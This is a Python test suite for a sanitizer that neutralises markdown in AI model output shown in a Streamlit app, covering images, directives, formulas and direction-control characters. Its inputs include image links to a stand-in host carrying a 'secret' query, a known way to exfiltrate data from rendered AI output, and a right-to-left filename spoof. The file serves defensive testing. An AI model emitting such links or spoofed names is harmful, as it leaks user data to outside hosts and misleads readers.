"""Model output may not load, run or imitate anything, and is shown as it was written; only its text is changed."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from playground.figures.commonmark import DEEPEST, MOST_BRACKETS
from playground.ui.parts.markdown import START, _pieces, code, dollars, plain, safe


@pytest.mark.parametrize(
    "hostile",
    [
        "![x](https://evil.example/?q=secret)",
        "![x][ref]\n\n[ref]: https://evil.example/a.png",
        "![](http://evil.example/a.png 'title')",
        "[![x](https://evil.example/a.png)](https://a.example)",
        "![a\nb](https://evil.example/a.png) tail",
        "> - | a |\n>   |---|\n>   | ![x](https://evil.example/a.png) |",
        "[^1]: ![x](https://evil.example/a.png)",
        "$a ![x](https://evil.example/a.png) b$",
        "$$\n![x](https://evil.example/a.png)\n$$",
        "# ![x](https://evil.example/a.png)",
    ],
)
def test_images_are_described_not_loaded(hostile: str) -> None:
    assert "![" not in safe(hostile)
    assert "image not loaded" in safe(hostile)


@pytest.mark.parametrize(
    "code",
    [
        "```\n![x](https://a.example/b.png)\n```",
        "`![x](y)`",
        "`` ` :x: -> $5 `` and `a\nb`",
        "text\n\n    :x: -> $5 ![x](y)\n\n\t:red[x] --",
        "- item\n\n      :x: -> $5\n\n  ~~~~ python\n  ``` -> :x:\n  ~~~\n  ~~~~",
        "> ```\n> a -> b :x: $5\n> ```",
        "```\nnever closed -> :x: ![x](y)",
        "<div>\n:x: -> ![x](y)\n</div>",
        "[text](https://a.example/:id:/--?a=->) and <https://a.example/:x:>",
        "[r]: https://a.example/:x: 'a -> b'",
    ],
)
def test_code_and_what_is_no_text_is_left_alone(code: str) -> None:
    assert safe(code) == code


def test_a_text_that_begins_with_code_keeps_it() -> None:
    assert safe("    a -> b :x:") == START + "    a -> b :x:"


def test_streamlit_directives_of_a_model_are_text() -> None:
    assert safe(":red-badge[Trusted]") == r"\:red-badge[Trusted]"
    assert safe("at 12:30, note: fine") == "at 12:30, note: fine"
    assert safe("12:30[note]") == r"12\:30[note]"
    assert safe("color:red; ::note") == r"color\:red; \:\:note"


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        (":x:", r":color[\:]x:"),
        (":material/check:", r":color[\:]material/check:"),  # `\:material/` is an icon all the same
        ("1:100:2", r"1:color[\:]100:2"),
        ("&#58;x:", r":color[\:]x:"),
        (r"\:x:", r":color[\:]x:"),
        ("a -> b", r"a :color[\-]\> b"),
        ("a <-> b", r"a <:color[\-]\> b"),
        ("checkout -- file", r"checkout :color[\-]\- file"),
        ("x:-> y", r"x\::color[\-]\> y"),
        ("----- and --flag", r"----- and :color[\-]\-flag"),
        ("10~20 or 30~40, ~~no~~", r"10\~20 or 30\~40, ~~no~~"),
    ],
)
def test_what_streamlit_would_turn_into_other_signs_stands_apart(text: str, kept: str) -> None:
    assert safe(text) == kept


def test_addresses_that_become_links_are_left_whole_or_become_none() -> None:
    assert safe("at http://localhost:8501/~me--x now") == "at http://localhost:8501/~me--x now"
    assert safe("at https://a.example/:id:") == r"at https:color[\:]//a.example/:color[\:]id:"


@pytest.mark.parametrize(
    "amounts",
    [
        "It costs $5 and $10 per month.",
        "**$4** a bundle, so she makes $1.50.",
        "| plan | fee |\n|---|---|\n| a | $1 to $2 |",
        "US$5, A$6 or 100$ and $7",
        "$20/month and paying 100$",
        "$HOME/$USER and $PATH:$X",
        "between $$ and $$$ restaurants",
        "$$\n\n$$",
        "$5 per item, where x=2$",
    ],
)
def test_amounts_and_names_of_a_shell_are_no_formulas(amounts: str) -> None:
    assert safe(amounts) == amounts.replace("$", r"\$")


@pytest.mark.parametrize(
    "formula",
    [
        "$x^2 + y$",
        "the $n$th and $a_1 * b_2 * c$",
        "$5$ and $2x + 3$, $5 \\cdot 3$",
        "$$\\int_0^1 x$$",
        "$$\nE = mc^2 -> :x:\n$$",
        "- a\n\n  $$\n  x_1\n  $$",
    ],
)
def test_formulas_are_left_alone(formula: str) -> None:
    assert safe(formula) == formula


def test_a_picture_that_streamlit_would_draw_is_code() -> None:
    assert safe("```mermaid\ngraph TD\n```") == "```\ngraph TD\n```"
    assert safe("> ~~~ MERMAID x\n> graph TD\n> ~~~") == "> ~~~\n> graph TD\n> ~~~"


def test_code_that_streamlit_would_change_is_drawn_by_itself() -> None:
    code = "st.button(icon=':material/check:')"
    text = f"Before\n\n```python\n{code}\n```\nafter"
    assert list(_pieces(text)) == [("Before\n", None), (code, "python"), ("after", None)]
    assert list(_pieces("a\n\n```\nplain\n```")) == [("a\n\n```\nplain\n```", None)]
    inside = f"- a\n\n  ```\n  {code}\n  ```"
    assert safe(inside) == inside.replace(":material", ":\u2060material")


@pytest.mark.parametrize(
    "odd",
    [">" * (2 * DEEPEST) + " ![x](u)", "[" * (MOST_BRACKETS + 1), "```" + ">" * 90 + "[" * 9_999],
    ids=["deep", "brackets", "both"],
)
def test_what_can_not_be_read_is_shown_as_code(odd: str) -> None:
    fence = "`" * (4 if odd.startswith("`") else 3)
    assert safe(odd) == f"{fence}text\n{odd}\n{fence}"


def test_controls_of_direction_are_seen_in_text_and_code() -> None:
    assert safe("user\u202egnp.exe") == "user⟦RLO⟧gnp.exe"
    assert safe("`a\u2066b`") == "`a⟦LRI⟧b`"
    assert plain("a\u200fb") == "a⟦RLM⟧b"


SIGNS = " \n\t:x-><=~*_`$[]()!|#\\&;^1a漢.\u202e"


@settings(deadline=None, max_examples=300)
@given(st.text(alphabet=SIGNS, max_size=60), st.text(alphabet=SIGNS, max_size=20))
def test_in_any_text_no_image_is_left(before: str, after: str) -> None:
    made = safe(f"{before}![x](https://evil.example){after}")
    tokens = MarkdownIt("commonmark").enable("table").parse(made)
    assert not [t for token in tokens for t in token.children or () if t.type == "image"]
    assert "\u202e" not in made


def test_plain_escapes_every_sign_with_a_meaning() -> None:
    assert plain("a*b_c[d]") == r"a\*b\_c\[d\]"
    assert plain("a&amp;b -> :x:") == r"a\&amp;b :color[\-]\> :color[\:]x\:"
    assert plain("see https://a.example/x_y") == r"see https:color[\:]//a.example/x\_y"


@pytest.mark.parametrize(
    ("text", "made"),
    [("get_it", "`get_it`"), ("a`b``", "``` a`b`` ```"), ("a\nb\u202e", "`a b⟦RLO⟧`")],
)
def test_inline_code_can_not_be_left(text: str, made: str) -> None:
    assert code(text) == made


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("$20 ($15 annual)", r"\$20 (\$15 annual)"),
        (plain("$20 ($15 annual)"), r"\$20 \(\$15 annual\)"),
        (r"a \\$5", r"a \\\$5"),  # an escaped backslash, then a dollar
        ("no money", "no money"),
    ],
)
def test_no_dollar_begins_a_formula_and_none_is_escaped_twice(text: str, shown: str) -> None:
    assert dollars(text) == dollars(dollars(text)) == shown
